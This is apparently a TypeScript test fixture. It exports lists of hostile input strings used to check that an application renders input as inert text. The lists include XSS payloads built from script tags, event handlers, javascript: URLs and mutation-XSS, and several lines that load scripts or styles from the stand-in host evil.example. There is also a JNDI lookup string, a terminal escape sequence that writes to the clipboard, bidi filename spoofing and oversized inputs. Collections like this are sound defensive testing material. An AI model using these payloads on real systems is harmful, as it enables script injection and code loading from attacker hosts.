/**
 * Texts that do something where they are taken for more than text. Whatever becomes an element bears `data-evil`; whatever is run sets
 * `window.evil` or opens a dialog.
 */
export const MARKUP: readonly string[] = [
  `<script data-evil>window.evil=1;alert(1)</script>`,
  `"><script data-evil src=//evil.example/x.js></script>`,
  `'"><img data-evil src=x onerror=alert(2)>`,
  `<img/data-evil/src=//evil.example/i.png/onerror=alert(3)>`,
  `<svg data-evil onload=alert(4)><animate onbegin=alert(5) attributeName=x></svg>`,
  `<math data-evil><mtext><table><mglyph><style><img src onerror=alert(6)>`,
  `<a data-evil href="javascript:alert(7)">click</a>`,
  `javascript:alert(8)//`,
  `data:text/html,<script>alert(9)</script>`,
  `<iframe data-evil srcdoc="<script>parent.evil=1</script>"></iframe>`,
  `<style data-evil>*{background:url(//evil.example/css)}</style>`,
  `<link data-evil rel=stylesheet href=//evil.example/c.css><base data-evil href=//evil.example/>`,
  `<meta data-evil http-equiv=refresh content="0;url=//evil.example/">`,
  `<form data-evil action=//evil.example/><button data-evil autofocus onfocus=alert(10)>`,
  `<details data-evil open ontoggle=alert(11)>`,
  `</title></textarea></noscript><img data-evil src=x onerror=alert(12)>`,
  `{{constructor.constructor('alert(13)')()}} \${alert(14)} <%= alert(15) %> #{alert(16)}`,
  '`-alert(17)-`\'-alert(18)-\'"-alert(19)-"',
  `__proto__ constructor prototype`,
  `\${jndi:ldap://evil.example/a}`,
  `%3Cscript data-evil%3Ealert(20)%3C/script%3E &lt;script&gt;alert(21)&lt;/script&gt;`,
];

const ESC = '\u001b';

export const CONTROLS: readonly string[] = [
  `${ESC}]0;owned\u0007${ESC}[2J${ESC}[31mred`,
  `${ESC}]52;c;ZXZpbA==\u0007${ESC}]8;;https://evil.example\u0007link${ESC}]8;;\u0007`,
  `c1 \u009b31m \u0085 \u0090 nul \u0000 del \u007f`,
  `bidi \u202egnp.exe\u202c \u2066abc\u2069 \u200f \u061c`,
  `zero\u200bwidth\u200d\u2060\ufeff soft\u00adhyphen \u{e0041}`,
  `lines \r end \u2028 and \u2029 end`,
];

export const LARGE: readonly string[] = [
  `z${'\u0300\u0489'.repeat(5_000)}`,
  'W'.repeat(65_536),
  '宽'.repeat(20_000),
  '<b data-evil>'.repeat(2_000),
];

export const CORPUS: readonly string[] = [...MARKUP, ...CONTROLS, ...LARGE];
